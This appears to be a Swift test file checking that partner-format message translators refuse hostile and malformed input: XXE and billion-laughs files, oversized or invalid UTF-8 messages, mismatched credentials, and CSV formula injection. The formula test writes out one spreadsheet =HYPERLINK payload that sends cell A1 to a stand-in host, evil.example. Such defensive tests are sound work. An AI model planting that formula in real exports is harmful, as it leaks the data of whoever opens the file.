import CanonicalEvents
import Foundation
import PartnerAdapters
import Testing

/// Broken and hostile messages: each refused whole, with every problem named at its place.
@Suite("Partner formats: hostile and broken input")
struct HostileInputTests {
    typealias F = PartnerFixtures

    static func problems(_ partner: String, _ bytes: [UInt8], from sender: String? = nil) -> [String] {
        do {
            let events = try F.translator(partner).translate(bytes, from: sender)
            Issue.record("accepted \(events.count) events")
            return []
        } catch {
            return error.problems.map(\.description)
        }
    }

    @Test("every shipped invalid message is refused with exactly the problems of its .error file", arguments: F.files("invalid"))
    func shippedInvalid(partner: String, url: URL) throws {
        let found = Self.problems(partner, try F.bytes(url))
        let expected = try F.expectedProblems(url)
        #expect(found.count == expected.count, "\(found)")
        for line in expected { #expect(found.contains { $0.contains(line) }, "\(line) in \(found)") }
    }

    @Test("XXE and billion laughs are refused before any entity is read")
    func entities() throws {
        for name in ["xxe.xml", "billion-laughs.xml"] {
            let url = F.directory.appendingPathComponent("politie/invalid/\(name)")
            #expect(Self.problems("politie", try F.bytes(url)).first?.contains("document type declaration") == true)
        }
        // Without a DOCTYPE an entity reference is just undeclared: still refused, never resolved.
        let bare = "<BVHExport afzender=\"politie\"><Registratie id=\"x\" soort=\"MELDING\"><Registratienummer>&geheim;</Registratienummer></Registratie></BVHExport>"
        #expect(Self.problems("politie", Array(bare.utf8)).first?.contains("not well-formed") == true)
    }

    @Test("an oversized message is refused on its size, before parsing")
    func oversized() throws {
        let limit = F.formats.formats["shn"]!.maxBytes
        // Not JSON at all: had it been parsed, the problem would have been a different one.
        let bytes = [UInt8](repeating: UInt8(ascii: "["), count: limit + 1)
        #expect(Self.problems("shn", bytes) == ["the message is \(limit + 1) bytes; messages from shn may be at most \(limit) bytes"])
    }

    @Test("invalid UTF-8 is refused with its byte offset, in every syntax")
    func invalidUTF8() {
        for (partner, text) in [("politie", "<BVHExport afzender=\"politie\">"), ("shn", "{\"afzender\": \"shn\", \"x\": \""), ("3ro", "regel_id;soort\r\nA;")] {
            let bytes = Array(text.utf8) + [0xC3, 0x28] + Array("\"}".utf8)
            #expect(Self.problems(partner, bytes) == ["byte \(text.utf8.count) (line \(text.filter { $0 == "\n" || $0 == "\r\n" }.count + 1)): the message is not valid UTF-8"])
        }
    }

    @Test("a partner posting under another partner's credential is refused")
    func otherCredential() throws {
        let vt = try F.bytes(F.directory.appendingPathComponent("vt/examples/beoordeling-en-traject.json"))
        #expect(Self.problems("vt", vt, from: "vt-utrecht") ==
                ["/organisatie: the message says it is from vt-amsterdam-amstelland, but it was sent with the credential of vt-utrecht"])
        let politie = try F.bytes(F.directory.appendingPathComponent("politie/examples/vt-melding-en-aanhouding.xml"))
        #expect(Self.problems("politie", politie, from: "om").first?.hasSuffix("the message says it is from politie, but it was sent with the credential of om") == true)
        // The right credential is accepted.
        #expect(try F.translator("vt").translate(vt, from: "vt-amsterdam-amstelland").count == 2)
    }

    @Test("CSV formula injection is neutralised on output and read back as the value it stands for")
    func formulaInjection() throws {
        let translator = F.translator("3ro")
        let golden = try JSONValue.parse(Data(contentsOf: F.directory.appendingPathComponent("3ro/examples/advies-traject-overtreding.canonical.json")))
        var breach = try CloudEvent(structured: golden.arrayValue![2])
        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")"
        guard case .object(var data) = breach.data else { Issue.record("no data"); return }
        data["description"] = .string(hostile)
        breach.data = .object(data)
        let csv = try translator.render([breach])
        #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"klik\"\")\""))
        for line in csv.split(separator: "\r\n") {
            for cell in line.split(separator: ";", omittingEmptySubsequences: true) {
                #expect(!["=", "+", "-", "@"].contains(cell.first.map(String.init) ?? ""), "\(cell)")
            }
        }
        let back = try translator.translate(Array(csv.utf8))
        #expect(back.first?.data["description"] == .string(hostile))
    }

    @Test("a valid message after refused ones still translates: the translator keeps no state")
    func laterMessagesFlow() throws {
        for (partner, url) in F.files("invalid") { _ = Self.problems(partner, try F.bytes(url)) }
        for (partner, url) in F.files("examples") { #expect(try !F.translator(partner).translate(try F.bytes(url)).isEmpty) }
    }
}
